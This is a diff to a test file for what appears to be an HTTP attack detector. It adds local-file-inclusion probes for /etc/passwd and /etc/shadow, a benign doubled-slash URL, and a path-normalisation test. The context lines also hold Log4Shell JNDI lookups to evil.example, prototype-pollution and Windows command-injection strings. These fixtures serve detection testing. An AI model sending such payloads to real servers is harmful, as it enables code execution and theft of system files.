@@ -259,6 +259,8 @@ const ATTACKS: ReadonlyArray<readonly [string, string]> = [
   ['java-nested-lookup', '/p?x=${${lower:j}ndi:ldap://evil.example/a}'],
   ['java-serialized', '/p?data=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ'],
   ['java-serialized', '/p?data=%AC%ED%00%05sr%00%11java.util.HashMap'], // the bytes themselves
+  ['lfi-system-file', '/download?file=/etc//passwd'], // a path a server folds before it opens it
+  ['lfi-system-file', '/download?file=%2Fetc%2F.%2Fshadow'],
   ['generic-prototype-brackets', '/api?q[constructor][prototype][admin]=1'],
   ['generic-node-dos', '/api?x=while(true){}'],
   ['rce-windows-if-compare', '/p?c=x%26if+%25a%25+equ+1+echo+y'],
@@ -282,6 +284,7 @@ const USER_AGENT_ATTACKS: ReadonlyArray<readonly [string, string]> = [
 
 const BENIGN: readonly string[] = [
   "/api/acl?path='/*'&verb=read", // a quoted glob, not a comment after a string
+  '/go?u=https://cdn.example//assets//app.js', // doubled slashes in an ordinary URL
   '/secure/attachment/10200/server.log', // an issue tracker's attachment
   '/acme/app/-/blob/main/logs/build.log', // a log file shown by a code-hosting site
   '/shop-bucket/logs/app.log?uploads', // an object in a bucket, by S3's path-style API
@@ -557,6 +560,12 @@ describe('rule families', () => {
     const comment = DETECTORS.filter((det) => det.view !== 'raw' && det.view !== 'commented' && /\\\/\\\*|\\\*\\\//.test(det.pattern.source));
     const nullByte = DETECTORS.filter((det) => det.view !== 'raw' && /\\x00|\\u0000/.test(det.pattern.source));
     expect([...upper, ...comment, ...nullByte].map((det) => det.id)).toEqual([]);
+  });
+
+  it('folds doubled slashes and /./ in the collapsed view, not the // of a scheme', () => {
+    expect(viewText(normalise('/a//b/./c?u=http://x//y&f=file:///etc', 3), 'collapsed')).toBe('/a/b/c?u=http://x/y&f=file://etc');
+    const plain = normalise('/a/b?c=d', 3);
+    expect(viewText(plain, 'collapsed')).toBe(plain.text);
   });
 
   it('gates on punctuation only: an unknown character is refused, a non-ASCII one shares a bit', () => {
